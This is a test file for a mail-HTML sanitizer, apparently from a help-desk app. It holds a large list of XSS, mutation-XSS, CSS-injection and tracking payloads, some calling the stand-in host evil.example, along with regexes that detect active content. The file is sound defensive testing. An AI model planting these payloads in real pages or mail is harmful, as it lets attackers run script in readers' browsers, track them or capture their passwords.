import { growthOf, MOST_LINEAR } from '../../../../test/support/growth-of';
import { sanitizeMailHtml } from './sanitize-mail-html';

const clean = (html: string): string => sanitizeMailHtml(html).html;

/** Payloads of the classes that mail and browsers are known for: handlers, schemes, frames, parsers that disagree, CSS. */
const PAYLOADS = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</script>', '<script\n>alert(1)</script\n>', '<script/xss src=data:,alert(1)>',
  '<img src=x onerror=alert(1)>', '<img src="x" onerror="alert(1)" onload="alert(2)">', '<img/src=x/onerror=alert(1)>', '<img src=`x` onerror=alert(1)>', '<img """><script>alert(1)</script>">',
  '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><animate onbegin=alert(1) attributeName=x>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<math href="javascript:alert(1)">x</math>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<style><img src="</style><img src=x onerror=alert(1)>">', '<xmp><img src="</xmp><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>', '<a href="JaVaScRiPt:alert(1)">x</a>', '<a href=" &#14; javascript:alert(1)">x</a>', '<a href="java\nscript:alert(1)">x</a>', '<a href="java&#x09;script:alert(1)">x</a>', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>', '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', '<a href="file:///etc/passwd">x</a>', '<a href="blob:https://x/1">x</a>', '<a href="//evil.example/x">x</a>', '<a href="javascript&colon;alert(1)">x</a>', '<a href="\u0001javascript:alert(1)">x</a>',
  '<iframe src="https://evil.example"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<object data="data:text/html,x"></object>', '<embed src="javascript:alert(1)">', '<applet code=x>', '<frameset><frame src="javascript:alert(1)"></frameset>', '<portal src="https://evil.example">', '<fencedframe>',
  '<form action="https://evil.example"><input name=p type=password><button formaction="javascript:alert(1)">go</button></form>', '<textarea onfocus=alert(1) autofocus>', '<select onchange=alert(1)><option>x', '<input onfocus=alert(1) autofocus>', '<isindex action=javascript:alert(1)>', '<keygen autofocus onfocus=alert(1)>',
  '<base href="https://evil.example/">', '<meta http-equiv=refresh content="0;url=https://evil.example">', '<meta http-equiv="Set-Cookie" content="a=b">', '<link rel=stylesheet href="https://evil.example/x.css">', '<link rel=prefetch href="https://evil.example/">',
  '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/y)}</style>', '<div style="background:url(https://evil.example/x)">x</div>', '<div style="background-image:url(javascript:alert(1))">x</div>', '<div style="width:expression(alert(1))">x</div>', '<div style="behavior:url(x.htc)">x</div>', '<div style="-moz-binding:url(x.xml#y)">x</div>', '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>', '<div style="color:red;background:u\\72l(https://evil.example/)">x</div>', '<div style="font-family:\'x\';}*{background:url(https://evil.example)}">x</div>', '<p style="list-style-image:url(https://evil.example/l)">x</p>', '<p style="content:url(https://evil.example/c)">x</p>', '<p style="cursor:url(https://evil.example/c),auto">x</p>', '<p style="border-image:url(https://evil.example/b)">x</p>', '<p style="margin-left:-9999px">x</p>',
  '<table background="https://evil.example/x"><td background="javascript:alert(1)">x</td></table>', '<body onload=alert(1) background="https://evil.example/b">x</body>', '<html manifest="https://evil.example/m">', '<bgsound src="javascript:alert(1)">', '<marquee onstart=alert(1)>x</marquee>', '<details open ontoggle=alert(1)>x</details>', '<video src=x onerror=alert(1) poster="https://evil.example/p"></video>', '<audio src="https://evil.example/a" autoplay></audio>', '<video><source onerror=alert(1)></video>', '<picture><source srcset="https://evil.example/s"><img src=x></picture>',
  '<img srcset="https://evil.example/1x 1x">', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', '<img src="data:text/html,<script>alert(1)</script>">', '<img lowsrc="javascript:alert(1)">', '<img dynsrc="javascript:alert(1)">', '<img src="https://evil.example/open.gif">', '<img usemap="#m"><map name=m><area href="javascript:alert(1)" shape=rect></map>', '<img src="cid:a" data-remote-src="javascript:alert(1)">',
  '<a href="https://x" ping="https://evil.example/p">x</a>', '<a href="https://x" target="_self" rel="opener">x</a>', '<div id="app" class="admin" name="x">x</div>', '<p onclick=alert(1) onmouseover=alert(2) ONPOINTERENTER=alert(3)>x</p>', '<p contenteditable onbeforeinput=alert(1)>x</p>', '<x-foo onclick=alert(1)>x</x-foo>', '<slot name=x></slot>', '<template><script>alert(1)</script></template>', '<dialog open>x</dialog>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->', '<!--><script>alert(1)</script>', '<!-- --!><img src=x onerror=alert(1)> -->', '<![CDATA[<script>alert(1)</script>]]>', '<?xml version="1.0"?><script>alert(1)</script>', '<xml id=x><i><b><img src=x onerror=alert(1)></b></i></xml>', '</title><script>alert(1)</script>', '<title><img src=x onerror=alert(1)></title>', '<plaintext><script>alert(1)</script>', '<p title="<script>alert(1)</script>">x</p>', '<div title=\'"><img src=x onerror=alert(1)>\'>x</div>', '<a title="`" onmouseover=alert(1)//">x</a>', '<img alt="</img><script>alert(1)</script>">',
  '<script>alert(1)', '<img src=x onerror=alert(1)', '<a href="javascript:alert(1)', '<svg><style><img title="</style><img src onerror=alert(1)>"></svg>', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '\u003cscript\u003ealert(1)\u003c/script\u003e', '<scr\0ipt>alert(1)</scr\0ipt>', '<img src=x on\0error=alert(1)>', '<p dir="rtl\u202e" style="color:\u0000red">x</p>',
];

const EVENT = /<[^>]*\son[a-z]+\s*=/i;
const ACTIVE_TAG = /<\/?(?:script|style|iframe|frame|object|embed|applet|form|input|button|textarea|select|svg|math|link|meta|base|video|audio|source|picture|template|dialog|map|area|portal|slot|body|html|noscript|title|plaintext|xmp|marquee|details)\b/i;
const LOADING_ATTRIBUTE = /<[^>]*\s(?:src|href|srcset|background|poster|ping|action|formaction|data|lowsrc|dynsrc|manifest|xlink:href|usemap|class|id|contenteditable)\s*=\s*["']?(?!["'\s])(?!https?:\/\/|mailto:|tel:|data:image\/(?:png|jpe?g|gif|webp|bmp);base64)/i;

/** Attribute values are escaped text; quotes inside them can't end them, so they are taken out before tags are looked for. */
const skeleton = (html: string): string => html.replace(/\s(?:title|alt)="[^"]*"/g, '');

describe('cleaning mail HTML', () => {
  it.each(PAYLOADS)('leaves nothing active of %j', (payload) => {
    for (const html of [payload, `<div>${payload}</div>`, `<table><tr><td>${payload}`, `<p>before</p>${payload}<p>after</p>`]) {
      const result = skeleton(clean(html));
      expect(result).not.toMatch(EVENT);
      expect(result).not.toMatch(ACTIVE_TAG);
      expect(result).not.toMatch(LOADING_ATTRIBUTE);
      expect(result).not.toMatch(/<[^>]*\ssrc="https?:/i);
      expect(result).not.toMatch(/style="[^"]*(?:url\s*\(|expression|position|behavior|binding|@import|-\d+px)/i);
    }
  });

  it('finds what it forbids when cleaning is left out', () => {
    const raw = PAYLOADS.map(skeleton);
    const caught = raw.filter((html) => EVENT.test(html) || ACTIVE_TAG.test(html) || LOADING_ATTRIBUTE.test(html) || /url\s*\(|expression|position/i.test(html));
    expect(caught.length).toBeGreaterThan(PAYLOADS.length * 0.8);
  });

  it('opens links apart', () => {
    expect(clean('<a href="https://example.org/a?b=1&amp;c" onclick="x()" target="_top">go</a>')).toBe('<a href="https://example.org/a?b=1&amp;c" target="_blank" rel="noopener noreferrer nofollow">go</a>');
    expect(clean('<a href="/desk/logout">x</a><a href="page">y</a><a href="#top">z</a>')).toBe('<a>x</a><a>y</a><a>z</a>');
    expect(clean('<a href="mailto:a@example.org">m</a>')).toContain('href="mailto:a@example.org"');
  });

  it('keeps images of other servers back until asked', () => {
    const html = '<img src="https://example.org/a.png" width="10" alt="a"><img src="http://example.org/b.png">';
    expect(sanitizeMailHtml(html)).toEqual({ remoteImages: 2, html: '<img width="10" alt="a" data-remote-src="https://example.org/a.png" /><img data-remote-src="http://example.org/b.png" />' });
    expect(sanitizeMailHtml(html, { allowRemoteImages: true }).html).toContain('<img width="10" alt="a" src="https://example.org/a.png" referrerpolicy="no-referrer" />');
  });

  it('shows inline images under the addresses given for them', () => {
    expect(sanitizeMailHtml('<img src="cid:a%40b"><img src="CID:unknown"><img src="cid:__proto__">', { cidMap: { 'a@b': 'https://desk.example.org/files/1' } }).html)
      .toBe('<img src="https://desk.example.org/files/1" data-cid="a@b" /><img data-cid="unknown" /><img data-cid="__proto__" />');
    expect(clean('<img src="data:image/png;base64,iVBORw==">')).toBe('<img src="data:image/png;base64,iVBORw==" />');
  });

  it('keeps the looks of ordinary mail', () => {
    const html = '<div dir="rtl" style="font-family:Tahoma, sans-serif;font-size:14px;color:#1f497d;text-align:right">سلام <b>جهان</b></div><table border="1" cellpadding="4"><tbody><tr><td colspan="2" style="background-color:rgb(255, 0, 0);padding:4px 8px">x</td></tr></tbody></table>';
    expect(clean(html)).toBe(html);
  });

  it.each<[string, (size: number) => string]>([
    ['nested elements', (size) => `${'<div>'.repeat(size)}x`],
    ['open tags', (size) => '<b '.repeat(10 * size)],
    ['styles', (size) => `<p style="${'color:red;'.repeat(size)}">x</p>`],
    ['values that are none', (size) => `<p style="border:${'1 '.repeat(2 * size)}!">x</p><p style="margin:${'1'.repeat(4 * size)}!">x</p>`],
  ])('takes linear time on %s', (_, html) => expect(growthOf((size) => clean(html(size)), 5_000)).toBeLessThan(MOST_LINEAR));
});
